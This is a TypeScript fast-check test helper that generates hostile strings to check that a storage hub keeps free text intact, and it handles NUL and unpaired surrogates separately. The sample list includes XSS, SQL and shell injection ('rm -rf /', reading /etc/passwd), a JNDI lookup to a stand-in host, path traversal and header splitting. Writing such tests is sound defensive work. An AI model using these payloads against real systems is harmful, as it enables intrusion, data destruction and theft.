import fc from 'fast-check';

/**
 * Strings that have hurt other systems: markup and script, SQL and shell injection, template and
 * lookup injection, header splitting, terminal escapes, bidirectional overrides, invisible and
 * combining characters, astral emoji, JSON in a string. Every one is valid Unicode the hub can
 * store: where a schema allows free text, the hub must carry it byte for byte.
 */
export const HOSTILE_SAMPLES: readonly string[] = [
  '<script>alert(document.cookie)</script>',
  '<img src=x onerror=alert(1)>',
  '"><svg/onload=alert(1)>',
  "'; DROP TABLE inbox; --",
  "Robert'); DELETE FROM family WHERE ('1'='1",
  '" OR 1=1 --',
  '$(rm -rf /)',
  '`cat /etc/passwd`',
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}<%= 7*7 %>#{7*7}',
  '../../../../etc/passwd',
  '%00%0d%0a',
  'regel\r\nSet-Cookie: sessie=gestolen',
  '\u001b[31mROOD\u001b[0m\u0007',
  '\u202Etxt.exe',
  '\u202Bشكرا\u202C en \u2067isolaat\u2069',
  'on\u200Bzicht\u200Dbaar\uFEFF\u2060',
  'Z\u0335\u0317a\u0336\u0323l\u0334\u032Bg\u0337\u0350o\u0338\u0301',
  '👨‍👩‍👧‍👦 𝕳𝖊𝖑𝖑𝖔 🏳️‍🌈',
  '\uFFFE\uFFFF\uFDD0',
  '{"bsn":"999990019","persoonId":"00000000-0000-4000-8000-000000000000"}',
  '__proto__',
  'constructor',
  'null',
  '\\u0000 is hier letterlijke tekst',
  '\u0001\u0002\u0003\u001f\u007f',
  'Ĳsselmeer café naïef façade',
  '\t\n\r\u2028\u2029',
];

/** Strings the hub cannot keep as text: PostgreSQL text refuses U+0000 and every store refuses an unpaired surrogate. */
export const UNKEEPABLE_SAMPLES: readonly string[] = [
  '\u0000',
  'voor\u0000na',
  '\uD800',
  'lone low \uDC00 surrogate',
  'reversed pair \uDE00\uD83D',
  'tail \uD83D',
];

/** True when the hub can store and pass on this text as it is: no U+0000 and no unpaired surrogate. */
export function isKeepableText(text: string): boolean {
  return !/\u0000|[\uD800-\uDBFF](?![\uDC00-\uDFFF])|(?<![\uD800-\uDBFF])[\uDC00-\uDFFF]/.test(text);
}

/** A hostile string the hub can keep: a sample, a mix of samples and arbitrary Unicode, or a long run. */
export function keepableHostileText(maxLength: number): fc.Arbitrary<string> {
  const piece = fc.oneof(
    { weight: 4, arbitrary: fc.constantFrom(...HOSTILE_SAMPLES) },
    { weight: 2, arbitrary: fc.string({ unit: 'grapheme', maxLength: 20 }) },
    { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 10 }) },
  );
  const mixed = fc.array(piece, { minLength: 1, maxLength: 4 }).map((parts) => parts.join(' '));
  const long = fc.tuple(fc.constantFrom(...HOSTILE_SAMPLES), fc.integer({ min: 1, max: 400 })).map(([s, n]) => s.repeat(n));
  return fc.oneof({ weight: 5, arbitrary: mixed }, { weight: 1, arbitrary: long })
    .map((s) => [...s].slice(0, maxLength).join(''))
    .filter((s) => s.length > 0 && [...s].length <= maxLength && isKeepableText(s));
}

/** A hostile string with U+0000 or an unpaired surrogate somewhere in it. */
export function unkeepableText(): fc.Arbitrary<string> {
  return fc.tuple(fc.constantFrom(...UNKEEPABLE_SAMPLES), fc.constantFrom('', ...HOSTILE_SAMPLES), fc.boolean())
    .map(([bad, other, before]) => (before ? `${bad}${other}` : `${other}${bad}`));
}

/** Any hostile string, keepable or not (for fields whose schema refuses them anyway). */
export function anyHostileText(maxLength = 300): fc.Arbitrary<string> {
  return fc.oneof({ weight: 5, arbitrary: keepableHostileText(maxLength) }, { weight: 1, arbitrary: unkeepableText() });
}
